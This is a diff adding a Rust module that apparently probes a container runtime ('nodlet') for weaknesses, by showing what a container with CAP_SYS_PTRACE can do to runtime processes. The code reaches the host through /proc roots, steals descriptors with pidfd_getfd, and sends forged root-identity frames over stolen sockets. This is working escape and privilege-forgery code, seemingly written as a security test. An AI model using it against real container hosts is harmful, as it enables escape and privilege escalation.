@@ -1,0 +1,92 @@
+//! What a container with CAP_SYS_PTRACE can do to processes of nodlet that come into its PID
+//! namespace: look through them at the host, take their descriptors, speak for them.
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::io;
+use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
+use std::path::Path;
+
+/// A file of the host that no container is given.
+pub(crate) const MARKER: &str = "/etc/hostname-of-the-host";
+
+/// Looks at every process until `stop` is there, then prints what it found, a line each.
+pub(crate) fn hunt(stop: &Path) {
+    let own = capabilities("self").expect("/proc is there");
+    let mut found = BTreeSet::new();
+    let mut seen = BTreeSet::new();
+    println!("hunting");
+    while !stop.exists() {
+        for process in fs::read_dir("/proc").expect("/proc is there").flatten() {
+            let name = process.file_name().to_string_lossy().into_owned();
+            let Ok(pid) = name.parse::<i32>() else { continue };
+            let process = process.path();
+            let comm = fs::read_to_string(process.join("comm")).unwrap_or_default().trim().to_owned();
+            if !comm.starts_with("nodlet:") && !comm.starts_with("youki:") {
+                continue;
+            }
+            seen.insert(comm.clone());
+            if capabilities(&name).is_some_and(|theirs| theirs & !own != 0) {
+                found.insert(format!("CAPABILITIES of {comm}"));
+            }
+            let marker = process.join("root").join(MARKER.trim_start_matches('/'));
+            if marker.exists() || process.join("cwd").join("run/nodlet").exists() {
+                found.insert(format!("ROOT of {comm}"));
+            }
+            take_descriptors(pid, &process, &comm, &mut found);
+        }
+    }
+    for line in found {
+        println!("FOUND {line}");
+    }
+    println!("seen: {}", seen.into_iter().collect::<Vec<_>>().join(" "));
+}
+
+fn capabilities(pid: &str) -> Option<u64> {
+    let status = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
+    let line = status.lines().find_map(|line| line.strip_prefix("CapPrm:"))?;
+    u64::from_str_radix(line.trim(), 16).ok()
+}
+
+/// Takes what a process has open, and says on its sockets that process 1 is the container's.
+fn take_descriptors(pid: i32, process: &Path, comm: &str, found: &mut BTreeSet<String>) {
+    let Ok(open) = fs::read_dir(process.join("fd")) else { return };
+    for entry in open.flatten() {
+        let Ok(leads) = fs::read_link(entry.path()) else { continue };
+        let leads = leads.to_string_lossy().into_owned();
+        let number: i32 = entry.file_name().to_string_lossy().parse().expect("a number");
+        if number < 3 {
+            continue;
+        }
+        if !leads.starts_with("socket:") && !leads.starts_with("/dev/pts") && !leads.starts_with("/dev/ptmx")
+        {
+            found.insert(format!("DESCRIPTOR of {comm}: {}", leads.split('[').next().unwrap_or_default()));
+        }
+        if let Ok(taken) = take(pid, number)
+            && leads.starts_with("socket:")
+        {
+            for frame in [r#"{"Created":{"pid":1}}"#, r#"{"User":{"uid":0,"gid":0,"groups":[],"home":"/"}}"#]
+            {
+                // SAFETY: the bytes outlive the call.
+                unsafe {
+                    libc::send(taken.as_raw_fd(), frame.as_ptr().cast(), frame.len(), libc::MSG_DONTWAIT)
+                };
+            }
+            println!("forged");
+        }
+    }
+}
+
+/// `pidfd_getfd(2)`.
+fn take(pid: i32, number: i32) -> io::Result<OwnedFd> {
+    // SAFETY: no pointers; each call returns a new descriptor that nobody else owns.
+    unsafe {
+        let pidfd = libc::syscall(libc::SYS_pidfd_open, pid, 0);
+        if pidfd < 0 {
+            return Err(io::Error::last_os_error());
+        }
+        let pidfd = OwnedFd::from_raw_fd(pidfd as i32);
+        let taken = libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), number, 0);
+        if taken < 0 { Err(io::Error::last_os_error()) } else { Ok(OwnedFd::from_raw_fd(taken as i32)) }
+    }
+}
